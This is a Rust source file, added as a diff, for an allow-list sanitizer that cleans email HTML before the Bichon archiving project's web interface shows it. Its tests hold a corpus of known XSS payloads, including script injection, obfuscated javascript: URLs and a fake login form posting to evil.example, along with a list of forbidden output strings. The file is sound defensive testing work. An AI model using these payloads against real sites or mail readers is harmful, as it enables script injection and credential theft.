@@ -0,0 +1,853 @@
+//
+// Copyright (c) 2025-2026 rustmailer.com (https://rustmailer.com)
+//
+// This file is part of the Bichon Email Archiving Project
+//
+// This program is free software: you can redistribute it and/or modify
+// it under the terms of the GNU Affero General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// (at your option) any later version.
+//
+// This program is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU Affero General Public License for more details.
+//
+// You should have received a copy of the GNU Affero General Public License
+// along with this program.  If not, see <http://www.gnu.org/licenses/>.
+
+//! Allow-list sanitizer for message HTML returned to the WebUI.
+//!
+//! The body is parsed into a DOM and rebuilt from a fixed set of tags and
+//! attributes, so scripts, event handlers, frames, forms and `javascript:`
+//! URLs never reach the browser regardless of how they were obfuscated.
+//! Inline `style` attributes are reduced to layout-neutral properties. The
+//! rules of `<style>` blocks are rebuilt from the same property allow-list,
+//! without `url()` or at-rules other than `@media`, and every selector is
+//! scoped to the container the body is wrapped in.
+
+use std::borrow::Cow;
+use std::collections::{HashMap, HashSet};
+use std::sync::LazyLock;
+
+use ammonia::{Builder, UrlRelative};
+use regex::Regex;
+
+const ALLOWED_TAGS: &[&str] = &[
+    "a",
+    "abbr",
+    "address",
+    "b",
+    "bdi",
+    "bdo",
+    "big",
+    "blockquote",
+    "br",
+    "caption",
+    "center",
+    "cite",
+    "code",
+    "col",
+    "colgroup",
+    "dd",
+    "del",
+    "dfn",
+    "div",
+    "dl",
+    "dt",
+    "em",
+    "font",
+    "h1",
+    "h2",
+    "h3",
+    "h4",
+    "h5",
+    "h6",
+    "hr",
+    "i",
+    "img",
+    "ins",
+    "kbd",
+    "li",
+    "mark",
+    "ol",
+    "p",
+    "pre",
+    "q",
+    "s",
+    "samp",
+    "small",
+    "span",
+    "strike",
+    "strong",
+    "sub",
+    "sup",
+    "table",
+    "tbody",
+    "td",
+    "tfoot",
+    "th",
+    "thead",
+    "time",
+    "tr",
+    "tt",
+    "u",
+    "ul",
+    "var",
+    "wbr",
+];
+
+/// Elements removed together with everything inside them.
+const DROPPED_WITH_CONTENT: &[&str] = &[
+    "script", "style", "title", "template", "iframe", "object", "svg", "math",
+];
+
+/// `class` is kept for the selectors of `<style>` rules; `id` is not, so
+/// nothing in the message can claim [`MESSAGE_CONTAINER_ID`].
+const GENERIC_ATTRIBUTES: &[&str] = &[
+    "align", "bgcolor", "class", "dir", "height", "lang", "style", "title", "valign", "width",
+];
+
+/// Element the body is wrapped in when `<style>` rules are kept.
+const MESSAGE_CONTAINER_ID: &str = "bichon-message";
+
+/// Leading selector parts that stand for the message container.
+const ROOT_SELECTORS: &[&str] = &["html", "body", ":root"];
+
+const TAG_ATTRIBUTES: &[(&str, &[&str])] = &[
+    ("a", &["href"]),
+    ("img", &["src", "alt", "border", "hspace", "vspace"]),
+    (
+        "table",
+        &["border", "cellpadding", "cellspacing", "summary"],
+    ),
+    ("td", &["colspan", "rowspan", "nowrap", "abbr"]),
+    ("th", &["colspan", "rowspan", "nowrap", "abbr", "scope"]),
+    ("col", &["span"]),
+    ("colgroup", &["span"]),
+    ("font", &["color", "face", "size"]),
+    ("ol", &["start", "type"]),
+    ("ul", &["type"]),
+    ("li", &["value"]),
+    ("time", &["datetime"]),
+];
+
+const URL_SCHEMES: &[&str] = &["http", "https", "mailto", "tel", "cid", "data"];
+
+/// Raster formats accepted as `data:` image sources. SVG is excluded since it
+/// can carry script when opened outside an `<img>` context.
+const DATA_IMAGE_TYPES: &[&str] = &[
+    "image/png",
+    "image/gif",
+    "image/jpeg",
+    "image/jpg",
+    "image/webp",
+    "image/bmp",
+];
+
+/// CSS properties kept in `style` attributes. Positioning, stacking and
+/// transform properties are deliberately absent so message content cannot
+/// overlay or escape its container.
+const STYLE_PROPERTIES: &[&str] = &[
+    "background",
+    "background-color",
+    "background-image",
+    "background-position",
+    "background-repeat",
+    "background-size",
+    "border",
+    "border-bottom",
+    "border-bottom-color",
+    "border-bottom-style",
+    "border-bottom-width",
+    "border-collapse",
+    "border-color",
+    "border-left",
+    "border-left-color",
+    "border-left-style",
+    "border-left-width",
+    "border-radius",
+    "border-right",
+    "border-right-color",
+    "border-right-style",
+    "border-right-width",
+    "border-spacing",
+    "border-style",
+    "border-top",
+    "border-top-color",
+    "border-top-style",
+    "border-top-width",
+    "border-width",
+    "clear",
+    "color",
+    "direction",
+    "display",
+    "float",
+    "font",
+    "font-family",
+    "font-size",
+    "font-style",
+    "font-variant",
+    "font-weight",
+    "height",
+    "letter-spacing",
+    "line-height",
+    "list-style",
+    "list-style-position",
+    "list-style-type",
+    "margin",
+    "margin-bottom",
+    "margin-left",
+    "margin-right",
+    "margin-top",
+    "max-height",
+    "max-width",
+    "min-height",
+    "min-width",
+    "overflow",
+    "overflow-wrap",
+    "padding",
+    "padding-bottom",
+    "padding-left",
+    "padding-right",
+    "padding-top",
+    "table-layout",
+    "text-align",
+    "text-decoration",
+    "text-indent",
+    "text-transform",
+    "vertical-align",
+    "visibility",
+    "white-space",
+    "width",
+    "word-break",
+    "word-spacing",
+    "word-wrap",
+];
+
+/// CSS functions allowed inside property values; anything else (including
+/// `expression()`, `var()` and `image-set()`) drops the declaration.
+const STYLE_FUNCTIONS: &[&str] = &["rgb", "rgba", "hsl", "hsla", "calc", "url"];
+
+/// Sanitizes an HTML message body.
+///
+/// `inline_urls` maps Content-IDs of the message's inline parts to the URL
+/// they should be served from. `<img src="cid:...">` references to those parts
+/// are rewritten; references to any other Content-ID are removed.
+pub fn sanitize_html(html: &str, inline_urls: &HashMap<String, String>) -> String {
+    let known_cids: HashSet<String> = inline_urls.keys().cloned().collect();
+    let cleaned = builder(known_cids).clean(html).to_string();
+    let cleaned = rewrite_cid_sources(cleaned, inline_urls);
+    let rules: Vec<String> = style_sheets(html)
+        .iter()
+        .flat_map(|css| sanitize_style_sheet(css, true))
+        .collect();
+    if rules.is_empty() {
+        return cleaned;
+    }
+    format!(
+        "<style>{}</style><div id=\"{MESSAGE_CONTAINER_ID}\">{cleaned}</div>",
+        rules.join("\n")
+    )
+}
+
+/// The text of the message's `<style>` elements as the HTML parser sees them.
+/// Only `<style>` survives this pass and text is escaped on serialization, so
+/// the literal tags left in the output are exactly those elements.
+fn style_sheets(html: &str) -> Vec<String> {
+    static STYLE_ELEMENT_RE: LazyLock<Regex> =
+        LazyLock::new(|| Regex::new(r"(?s)<style[^>]*>(.*?)</style>").unwrap());
+    let mut builder = Builder::empty();
+    builder
+        .tags(["style"].into_iter().collect())
+        .clean_content_tags(
+            DROPPED_WITH_CONTENT
+                .iter()
+                .copied()
+                .filter(|tag| *tag != "style")
+                .collect(),
+        )
+        .strip_comments(true);
+    let extracted = builder.clean(html).to_string();
+    STYLE_ELEMENT_RE
+        .captures_iter(&extracted)
+        .map(|caps| caps[1].to_string())
+        .collect()
+}
+
+/// Rebuilds the rules of a style sheet: allowed declarations only, selectors
+/// scoped to the message container, `@media` kept (one level deep) and every
+/// other at-rule, including `@import` and `@font-face`, dropped.
+fn sanitize_style_sheet(css: &str, allow_media: bool) -> Vec<String> {
+    let css = strip_css_comments(css);
+    let mut rules = Vec::new();
+    let mut start = 0;
+    let mut open = None;
+    let mut nesting = 0usize;
+    scan_css(&css, |i, c| match c {
+        ';' if nesting == 0 => start = i + 1,
+        '{' => {
+            if nesting == 0 {
+                open = Some(i);
+            }
+            nesting += 1;
+        }
+        '}' if nesting > 0 => {
+            nesting -= 1;
+            if nesting == 0 {
+                if let Some(open) = open.take() {
+                    rules.extend(sanitize_rule(
+                        &css[start..open],
+                        &css[open + 1..i],
+                        allow_media,
+                    ));
+                }
+                start = i + 1;
+            }
+        }
+        '}' => start = i + 1,
+        _ => {}
+    });
+    rules
+}
+
+fn sanitize_rule(prelude: &str, body: &str, allow_media: bool) -> Option<String> {
+    let prelude = prelude.trim();
+    if let Some(at_rule) = prelude.strip_prefix('@') {
+        let query = at_rule
+            .get(..5)
+            .filter(|name| name.eq_ignore_ascii_case("media"))
+            .and_then(|_| at_rule.get(5..))?
+            .trim();
+        if !allow_media || !is_safe_media_query(query) {
+            return None;
+        }
+        let rules = sanitize_style_sheet(body, false);
+        return (!rules.is_empty()).then(|| format!("@media {query} {{\n{}\n}}", rules.join("\n")));
+    }
+    let selectors: Vec<String> = split_css(prelude, ',')
+        .into_iter()
+        .filter_map(scope_selector)
+        .collect();
+    if selectors.is_empty() {
+        return None;
+    }
+    let declarations = sanitize_declarations(body, false)?;
+    Some(format!("{} {{ {declarations} }}", selectors.join(", ")))
+}
+
+/// Prefixes a selector with the message container; a leading `html`, `body`
+/// or `:root` becomes the container itself.
+fn scope_selector(selector: &str) -> Option<String> {
+    let selector = selector.trim();
+    if selector.is_empty()
+        || selector
+            .chars()
+            .any(|c| c.is_control() || matches!(c, '<' | '\\' | '@' | '{' | '}' | ';' | '/' | '!'))
+    {
+        return None;
+    }
+    let mut parts = selector.split_whitespace().peekable();
+    while parts
+        .next_if(|part| {
+            ROOT_SELECTORS
+                .iter()
+                .any(|root| part.eq_ignore_ascii_case(root))
+        })
+        .is_some()
+    {}
+    let rest = parts.collect::<Vec<_>>().join(" ");
+    Some(if rest.is_empty() {
+        format!("#{MESSAGE_CONTAINER_ID}")
+    } else {
+        format!("#{MESSAGE_CONTAINER_ID} {rest}")
+    })
+}
+
+fn is_safe_media_query(query: &str) -> bool {
+    !query.is_empty()
+        && query.chars().all(|c| {
+            c.is_ascii_alphanumeric() || c == ' ' || matches!(c, '-' | '(' | ')' | ':' | ',' | '.')
+        })
+}
+
+fn strip_css_comments(css: &str) -> String {
+    let mut stripped = String::with_capacity(css.len());
+    let mut rest = css;
+    while let Some(open) = rest.find("/*") {
+        stripped.push_str(&rest[..open]);
+        match rest[open + 2..].find("*/") {
+            Some(close) => rest = &rest[open + 2 + close + 2..],
+            None => return stripped,
+        }
+    }
+    stripped.push_str(rest);
+    stripped
+}
+
+fn builder(known_cids: HashSet<String>) -> Builder<'static> {
+    let mut builder = Builder::default();
+    builder
+        .tags(ALLOWED_TAGS.iter().copied().collect())
+        .clean_content_tags(DROPPED_WITH_CONTENT.iter().copied().collect())
+        .generic_attributes(GENERIC_ATTRIBUTES.iter().copied().collect())
+        .tag_attributes(
+            TAG_ATTRIBUTES
+                .iter()
+                .map(|(tag, attrs)| (*tag, attrs.iter().copied().collect()))
+                .collect(),
+        )
+        .url_schemes(URL_SCHEMES.iter().copied().collect())
+        .url_relative(UrlRelative::Deny)
+        .link_rel(Some("noopener noreferrer nofollow"))
+        .set_tag_attribute_value("a", "target", "_blank")
+        .strip_comments(true)
+        .attribute_filter(
+            move |element, attribute, value| match (element, attribute) {
+                ("img", "src") => filter_image_source(value, &known_cids),
+                (_, "href") => filter_link(value),
+                (_, "style") => sanitize_style(value).map(Cow::Owned),
+                _ => Some(Cow::Borrowed(value)),
+            },
+        );
+    builder
+}
+
+/// Lower-cased copy with whitespace and control characters removed, which is
+/// how browsers read the scheme of `java\tscript:` and similar.
+fn normalized_scheme_prefix(value: &str) -> String {
+    value
+        .chars()
+        .filter(|c| !c.is_whitespace() && !c.is_control())
+        .take(32)
+        .collect::<String>()
+        .to_ascii_lowercase()
+}
+
+fn filter_image_source<'u>(value: &'u str, known_cids: &HashSet<String>) -> Option<Cow<'u, str>> {
+    let prefix = normalized_scheme_prefix(value);
+    if prefix.starts_with("cid:") {
+        let trimmed = value.trim();
+        let cid = trimmed
+            .get(..4)
+            .filter(|scheme| scheme.eq_ignore_ascii_case("cid:"))
+            .and_then(|_| trimmed.get(4..))?
+            .trim();
+        return known_cids
+            .contains(cid)
+            .then(|| Cow::Owned(format!("cid:{cid}")));
+    }
+    if prefix.starts_with("data:") {
+        return is_safe_data_image(value).then_some(Cow::Borrowed(value));
+    }
+    if prefix.starts_with("http://") || prefix.starts_with("https://") {
+        return Some(Cow::Borrowed(value));
+    }
+    None
+}
+
+fn filter_link(value: &str) -> Option<Cow<'_, str>> {
+    let prefix = normalized_scheme_prefix(value);
+    ["http://", "https://", "mailto:", "tel:"]
+        .iter()
+        .any(|scheme| prefix.starts_with(scheme))
+        .then_some(Cow::Borrowed(value))
+}
+
+fn is_safe_data_image(value: &str) -> bool {
+    let value = value.trim().to_ascii_lowercase();
+    DATA_IMAGE_TYPES
+        .iter()
+        .any(|mime| value.starts_with(&format!("data:{mime};base64,")))
+}
+
+/// Keeps the allowed declarations of a `style` attribute, or `None` when
+/// nothing survives.
+fn sanitize_style(style: &str) -> Option<String> {
+    sanitize_declarations(style, true)
+}
+
+/// Keeps the allowed declarations of a declaration list. `url()` is only
+/// accepted with `allow_urls`.
+fn sanitize_declarations(declarations: &str, allow_urls: bool) -> Option<String> {
+    let kept: Vec<String> = split_css(declarations, ';')
+        .into_iter()
+        .filter_map(|declaration| {
+            let (property, value) = declaration.split_once(':')?;
+            let property = property.trim().to_ascii_lowercase();
+            let value = value.trim();
+            (!value.is_empty()
+                && STYLE_PROPERTIES.contains(&property.as_str())
+                && is_safe_css_value(value, allow_urls))
+            .then(|| format!("{property}: {}", unquote_css_urls(value)))
+        })
+        .collect();
+    (!kept.is_empty()).then(|| kept.join("; "))
+}
+
+/// Calls `on_top_level` with the byte offset of every character outside CSS
+/// strings and parentheses. Returns whether all of them were closed.
+fn scan_css(text: &str, mut on_top_level: impl FnMut(usize, char)) -> bool {
+    let mut quote = None;
+    let mut depth = 0usize;
+    for (i, c) in text.char_indices() {
+        match quote {
+            Some(q) if c == q => quote = None,
+            Some(_) => {}
+            None => match c {
+                '"' | '\'' => quote = Some(c),
+                '(' => depth += 1,
+                ')' if depth > 0 => depth -= 1,
+                _ if depth == 0 => on_top_level(i, c),
+                _ => {}
+            },
+        }
+    }
+    quote.is_none() && depth == 0
+}
+
+/// Splits at `separator`s outside strings and parentheses, so that the `;` of
+/// `url(data:image/png;base64,...)` or a quoted font name stays put.
+fn split_css(text: &str, separator: char) -> Vec<&str> {
+    let mut parts = Vec::new();
+    let mut start = 0;
+    scan_css(text, |i, c| {
+        if c == separator {
+            parts.push(&text[start..i]);
+            start = i + c.len_utf8();
+        }
+    });
+    parts.push(&text[start..]);
+    parts
+}
+
+fn is_safe_css_value(value: &str, allow_urls: bool) -> bool {
+    if value
+        .chars()
+        .any(|c| c.is_control() || matches!(c, '\\' | '<' | '>' | '{' | '}' | '@'))
+        || !scan_css(value, |_, _| {})
+    {
+        return false;
+    }
+    let lower = value.to_ascii_lowercase();
+    if lower.contains("/*")
+        || lower.contains("javascript:")
+        || lower.contains("behavior")
+        || lower.contains("-moz-binding")
+    {
+        return false;
+    }
+
+    let mut rest = lower.as_str();
+    while let Some(open) = rest.find('(') {
+        let name_start = rest[..open]
+            .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '_'))
+            .map_or(0, |i| i + 1);
+        let name = &rest[name_start..open];
+        if !STYLE_FUNCTIONS.contains(&name) {
+            return false;
+        }
+        let Some(close) = rest[open..].find(')').map(|i| open + i) else {
+            return false;
+        };
+        if name == "url" && !(allow_urls && is_allowed_css_url(&rest[open + 1..close])) {
+            return false;
+        }
+        rest = &rest[close + 1..];
+    }
+    true
+}
+
+/// Drops the quotes around `url()` targets. Quotes are serialized as `&quot;`
+/// inside the attribute, which would hide the URL from remote-content blocking.
+fn unquote_css_urls(value: &str) -> String {
+    let lower = value.to_ascii_lowercase();
+    let mut unquoted = String::with_capacity(value.len());
+    let mut pos = 0;
+    while let Some(found) = lower[pos..].find("url(") {
+        let open = pos + found + 4;
+        let Some(close) = lower[open..].find(')').map(|i| open + i) else {
+            break;
+        };
+        unquoted.push_str(&value[pos..open]);
+        unquoted.push_str(
+            value[open..close]
+                .trim()
+                .trim_matches(|c| c == '"' || c == '\''),
+        );
+        pos = close;
+    }
+    unquoted.push_str(&value[pos..]);
+    unquoted
+}
+
+/// `url()` targets are limited to plain http(s) URLs, which remote-content
+/// blocking can recognise and strip, and raster `data:` images.
+fn is_allowed_css_url(argument: &str) -> bool {
+    let target = argument.trim().trim_matches(|c| c == '"' || c == '\'');
+    (target.starts_with("http://") || target.starts_with("https://") || is_safe_data_image(target))
+        && !target
+            .chars()
+            .any(|c| c.is_whitespace() || matches!(c, '"' | '\'' | '('))
+}
+
+fn rewrite_cid_sources(mut html: String, inline_urls: &HashMap<String, String>) -> String {
+    for (cid, url) in inline_urls {
+        let reference = format!("src=\"cid:{}\"", escape_attribute(cid));
+        if html.contains(&reference) {
+            html = html.replace(&reference, &format!("src=\"{}\"", escape_attribute(url)));
+        }
+    }
+    html
+}
+
+/// Attribute-value escaping as performed by the HTML serializer.
+pub(crate) fn escape_attribute(value: &str) -> String {
+    value
+        .replace('&', "&amp;")
+        .replace('\u{a0}', "&nbsp;")
+        .replace('"', "&quot;")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use regex::Regex;
+
+    fn clean(html: &str) -> String {
+        sanitize_html(html, &HashMap::new())
+    }
+
+    /// Payloads collected from public XSS cheat sheets and mutation-XSS
+    /// reports. None of them may leave an executable construct behind.
+    const XSS_CORPUS: &[&str] = &[
+        "<script>alert(1)</script>",
+        "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
+        "<img src=x onerror=alert(1)>",
+        "<img src=\"https://example.com/a.png\" onload=\"alert(1)\">",
+        "<IMG SRC=\"javascript:alert('XSS');\">",
+        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
+        "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
+        "<IMG SRC=\"jav\nascript:alert('XSS');\">",
+        "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
+        "<a href=\"javascript:alert(1)\">click</a>",
+        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
+        "<a href=\"vbscript:msgbox(1)\">x</a>",
+        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
+        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
+        "<svg onload=alert(1)>",
+        "<svg><script>alert(1)</script></svg>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+        "<iframe src=\"https://evil.example\"></iframe>",
+        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
+        "<frameset><frame src=\"https://evil.example\"></frameset>",
+        "<object data=\"https://evil.example/x.swf\"></object>",
+        "<embed src=\"https://evil.example/x.swf\">",
+        "<form action=\"https://evil.example/login\"><input name=password type=password><button>Sign in</button></form>",
+        "<body onload=alert(1)>",
+        "<div onmouseover=\"alert(1)\">hover</div>",
+        "<details open ontoggle=alert(1)>",
+        "<video><source onerror=\"alert(1)\"></video>",
+        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
+        "<base href=\"https://evil.example/\">",
+        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
+        "<style>@import 'https://evil.example/x.css';</style>",
+        "<style>body{background:url(javascript:alert(1))}</style>",
+        "<div style=\"width: expression(alert(1))\">x</div>",
+        "<div style=\"background-image: url(javascript:alert(1))\">x</div>",
+        "<div style=\"behavior: url(xss.htc)\">x</div>",
+        "<div style=\"-moz-binding: url(https://evil.example/xss.xml#xss)\">x</div>",
+        "<div style=\"position: fixed; top: 0; left: 0; width: 100%; height: 100%\">overlay</div>",
+        "<template><script>alert(1)</script></template>",
+        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
+        "<a href=\"#\" target=\"_self\" rel=\"opener\">x</a>",
+        "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
+        "<img src=\"cid:unknown@example.com\">",
+        "<isindex type=image src=1 onerror=alert(1)>",
+        "<xmp><img src=x onerror=alert(1)></xmp>",
+    ];
+
+    #[test]
+    fn xss_corpus_is_neutralised() {
+        let event_handler = Regex::new(r"<[^>]*\son[a-z]+\s*=").unwrap();
+        let forbidden = [
+            "<script",
+            "<iframe",
+            "<frame",
+            "<form",
+            "<input",
+            "<button",
+            "<object",
+            "<embed",
+            "<svg",
+            "<math",
+            "<style",
+            "<link",
+            "<meta",
+            "<base",
+            "<template",
+            "<body",
+            "javascript:",
+            "vbscript:",
+            "data:text",
+            "data:image/svg",
+            "expression(",
+            "behavior",
+            "-moz-binding",
+            "position",
+            "rel=\"opener\"",
+            "cid:",
+        ];
+        for payload in XSS_CORPUS {
+            let output = clean(payload);
+            let lower = output.to_ascii_lowercase();
+            assert!(
+                !event_handler.is_match(&lower),
+                "event handler survived: {payload:?} -> {output:?}"
+            );
+            for needle in forbidden {
+                assert!(
+                    !lower.contains(needle),
+                    "{needle:?} survived: {payload:?} -> {output:?}"
+                );
+            }
+        }
+    }
+
+    #[test]
+    fn keeps_ordinary_email_markup() {
+        let html = r##"<table width="600" cellpadding="4" bgcolor="#ffffff"><tr><td align="center" style="color: #333; font-family: Arial, sans-serif; padding: 8px"><b>Hello</b> <a href="https://example.com/offer">offer</a></td></tr></table>"##;
+        let output = clean(html);
+        assert!(output.contains(r#"width="600""#));
+        assert!(output.contains(r#"cellpadding="4""#));
+        assert!(output.contains(r##"bgcolor="#ffffff""##));
+        assert!(output.contains("color: #333; font-family: Arial, sans-serif; padding: 8px"));
+        assert!(output.contains("<b>Hello</b>"));
+        assert!(output.contains(r#"href="https://example.com/offer""#));
+        assert!(output.contains(r#"target="_blank""#));
+        assert!(output.contains(r#"rel="noopener noreferrer nofollow""#));
+    }
+
+    #[test]
+    fn style_keeps_only_safe_declarations() {
+        assert_eq!(
+            sanitize_style("color: red; position: absolute; z-index: 99; margin: 0 auto"),
+            Some("color: red; margin: 0 auto".into())
+        );
+        assert_eq!(
+            sanitize_style("background-color: rgb(10, 20, 30)"),
+            Some("background-color: rgb(10, 20, 30)".into())
+        );
+        assert_eq!(
+            sanitize_style("background: url('https://example.com/bg.png') no-repeat"),
+            Some("background: url(https://example.com/bg.png) no-repeat".into())
+        );
+        assert_eq!(
+            sanitize_style(r#"background-image: URL( "https://example.com/a.png" )"#),
+            Some("background-image: URL(https://example.com/a.png)".into())
+        );
+        assert_eq!(sanitize_style("background: url(/relative.png)"), None);
+        assert_eq!(sanitize_style("width: var(--x)"), None);
+        assert_eq!(sanitize_style("color: r\\65 d"), None);
+        assert_eq!(sanitize_style("position: fixed"), None);
+    }
+
+    #[test]
+    fn raster_data_images_are_kept() {
+        let html = r#"<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">"#;
+        let output = clean(html);
+        assert!(output.contains(r#"src="data:image/png;base64,iVBORw0KGgo=""#));
+        assert!(output.contains(r#"alt="dot""#));
+    }
+
+    #[test]
+    fn remote_images_are_left_for_remote_content_blocking() {
+        let output = clean(r#"<img src="https://tracker.example/p.gif">"#);
+        assert!(output.contains(r#"src="https://tracker.example/p.gif""#));
+    }
+
+    #[test]
+    fn known_cid_references_are_rewritten() {
+        let mut urls = HashMap::new();
+        urls.insert(
+            "logo@example.com".to_string(),
+            "/api/inline-attachment/1/2?content_hash=abc&expires=5&signature=ff".to_string(),
+        );
+        let output = sanitize_html(
+            r#"<p><img src="cid:logo@example.com" alt="logo"><img src="cid:other@example.com"></p>"#,
+            &urls,
+        );
+        assert!(output.contains(
+            r#"src="/api/inline-attachment/1/2?content_hash=abc&amp;expires=5&amp;signature=ff""#
+        ));
+        assert!(!output.contains("cid:"));
+    }
+
+    #[test]
+    fn dropped_containers_lose_their_text() {
+        let output = clean("<p>visible</p><script>var x = 1;</script><title>Subject</title>");
+        assert!(output.contains("visible"));
+        assert!(!output.contains("var x"));
+        assert!(!output.contains("Subject"));
+        assert!(!output.contains(MESSAGE_CONTAINER_ID));
+    }
+
+    #[test]
+    fn style_blocks_are_scoped_to_the_message() {
+        let output = clean(
+            "<style>body { color: red } .note, td > p { padding: 4px; position: fixed }</style>\
+             <p class=\"note\" id=\"bichon-message\">hi</p>",
+        );
+        assert!(output.starts_with(
+            "<style>#bichon-message { color: red }\n\
+             #bichon-message .note, #bichon-message td > p { padding: 4px }</style>"
+        ));
+        assert!(output.contains(r#"<div id="bichon-message"><p class="note">hi</p></div>"#));
+        assert!(!output.contains("position"));
+    }
+
+    #[test]
+    fn style_blocks_lose_imports_urls_and_expressions() {
+        let output = clean(
+            "<style>@import url(https://evil.example/x.css);\
+             @font-face { font-family: X; src: url(https://evil.example/x.woff) }\
+             p { background: url(https://tracker.example/p.gif); color: blue; width: expression(alert(1)) }\
+             /* } body { color: red } */\
+             @media only screen and (max-width: 600px) { .col { width: 100% } @media print { p { color: red } } }\
+             </style><p>x</p>",
+        );
+        assert!(output.contains("#bichon-message p { color: blue }"));
+        assert!(output.contains(
+            "@media only screen and (max-width: 600px) {\n#bichon-message .col { width: 100% }\n}"
+        ));
+        for needle in [
+            "@import",
+            "@font-face",
+            "url(",
+            "expression",
+            "color: red",
+            "print",
+        ] {
+            assert!(!output.contains(needle), "{needle:?} survived: {output:?}");
+        }
+    }
+
+    #[test]
+    fn style_tokenizer_respects_strings_and_parentheses() {
+        assert_eq!(
+            sanitize_style(
+                r#"background-image: url("data:image/png;base64,iVBORw0KGgo="); color: red"#
+            ),
+            Some("background-image: url(data:image/png;base64,iVBORw0KGgo=); color: red".into())
+        );
+        assert_eq!(
+            sanitize_style(r#"font-family: "Foo;Bar", serif; color: red"#),
+            Some(r#"font-family: "Foo;Bar", serif; color: red"#.into())
+        );
+        assert_eq!(sanitize_style(r#"font-family: "Foo; color: red"#), None);
+        assert_eq!(
+            sanitize_style("background-image: url(data:image/svg+xml;base64,PHN2Zz4=)"),
+            None
+        );
+    }
+}